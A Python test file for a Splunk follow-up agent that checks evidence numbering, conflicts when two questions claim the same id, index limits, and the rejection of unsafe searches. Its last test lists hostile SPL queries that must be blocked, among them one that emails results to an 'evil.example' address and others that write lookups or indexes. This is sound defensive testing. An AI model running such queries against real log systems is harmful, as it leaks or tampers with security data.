"""A question's own searches: numbered after all that the report tells of, kept, and within what a model may read."""

import asyncio
import json

import pytest
from agents import Usage as Tokens
from agents.testing import ScriptedModel, assistant_message, function_call

from bot.agent.model import OpenModel, model_settings
from bot.agent.task_agent import OpenAITaskAgent
from bot.domain.evidence import Evidence, SearchQuery
from bot.domain.kept import KeptPlan, KeptRun, KeptSearch, RunState
from bot.domain.run import Interpretation, Problem, Run, RunRequest
from bot.domain.window import TimeWindow
from bot.engine.caps import Caps
from bot.engine.deployments import Deployment
from bot.engine.follow_up import Asked, FollowUp
from bot.errors import SearchOutOfBounds, StoreError, UnsafeSearch
from bot.ports import FollowUpBrief, Observer, TaskAgent
from bot.summary.tool import report_by_rules
from tests.agent.briefs import access
from tests.agent.runs import chain
from tests.fakes import FakeAgent, FakeSplunk

WINDOW = TimeWindow(earliest=0, latest=60)


class Searcher(FakeAgent):
    """Searches once, after a look at what the run has under each id."""

    spl = "index=web | stats count by host"

    async def answer(self, brief: FollowUpBrief, tell: Observer) -> Interpretation:
        self.questions.append(brief)
        found = await brief.look.search(self.spl, "-1h", "now")
        return Interpretation(text="so", evidence=(found.evidence.id,), doubt=None)


def entry(number: int, **of: object) -> Evidence:
    return Evidence.model_validate({"id": f"E{number}", "probe": "p", "spl": f"| s{number}", "window": WINDOW, **of})


def asked() -> Asked:
    """Ask about a run of which E1 was carried over, E2 is kept with its row, and E3 was cancelled."""
    evidence = (entry(1), entry(2, row_count=1), entry(3, error="was cancelled before it ended"))
    kept = KeptSearch(query=SearchQuery(spl="| s2", window=WINDOW), evidence=entry(2), rows=({"n": "7"},))
    run = Run(
        id="r1",
        workflow="chain",
        title="Chain",
        problem=Problem(text="no events"),
        phases=(("one",),),
        started_at=0,
        finished_at=1,
        results=(),
        evidence=evidence,
        report=report_by_rules([]),
    )
    plan = KeptPlan(workflow=chain(1), problem=run.problem, reason="", now=0)
    request = RunRequest(problem="no events")
    whole = KeptRun(id="r1", state=RunState.DONE, request=request, asked_at=0, plan=plan, searches=(kept,), run=run)
    return Asked(whole, "which hosts?")


async def answer(agent: TaskAgent, *, indexes: tuple[str, ...] | None = None, is_free: bool = True) -> FollowUp:
    async def keep(_run_id: str, _search: KeptSearch) -> bool:
        return is_free

    deployment = Deployment(FakeSplunk({"web": ({"host": "fwd07", "count": "3"},)}), 2, "lab")
    policy = Caps(model_indexes=indexes).model_policy
    return await asked().answer(agent, asyncio.Semaphore(1), deployment, policy, keep)


async def test_a_search_gets_an_id_that_no_entry_of_the_report_has_and_all_of_those_can_be_seen() -> None:
    agent = Searcher()
    found = await answer(agent)
    assert [each.id for each in found.searches] == ["E4"]
    assert agent.questions[0].splunk == "lab"
    look = agent.questions[0].look
    seen = [rows.rows for number in (1, 2, 3) if (rows := look.entry(f"E{number}"))]
    assert seen == [(), ({"n": "7"},), ()]


async def test_an_id_that_another_question_has_taken_meanwhile_is_not_used() -> None:
    with pytest.raises(StoreError, match="Ask again"):
        await answer(Searcher(), is_free=False)


async def test_a_search_that_cannot_be_kept_ends_a_models_question_and_is_never_cited() -> None:
    says = json.dumps({"interpretation": "fwd07 sent 3 events.", "evidence": ["E4"]})
    search, look = function_call("search", {"spl": Searcher.spl}, call_id="c1"), {"id": "E4"}
    turns = [[search], [function_call("evidence", look, call_id="c2")], [assistant_message(says)]]
    model = OpenModel(access(), ScriptedModel(turns, default_usage=Tokens()), model_settings(access()))
    with pytest.raises(StoreError, match=r"Somebody else asked about this run meanwhile\. Ask again\."):
        await answer(OpenAITaskAgent(model), is_free=False)


async def test_only_the_indexes_that_the_settings_leave_to_a_model_are_searched() -> None:
    assert (await answer(Searcher(), indexes=("web*",))).searches
    with pytest.raises(SearchOutOfBounds, match="web"):
        await answer(Searcher(), indexes=("app_*", "_internal"))


@pytest.mark.parametrize(
    "spl",
    [
        "index=web | outputlookup users.csv",
        "index=web [search index=web | ```so``` collect index=main]",
        "index=web `a_macro`",
        'index=web | sendemail to="a@evil.example"',
        "index=web " + "x" * 5000,
    ],
)
async def test_a_model_that_obeys_a_question_sends_no_search_that_does_more_than_read(spl: str) -> None:
    agent = Searcher()
    agent.spl = spl
    with pytest.raises(UnsafeSearch):
        await answer(agent)
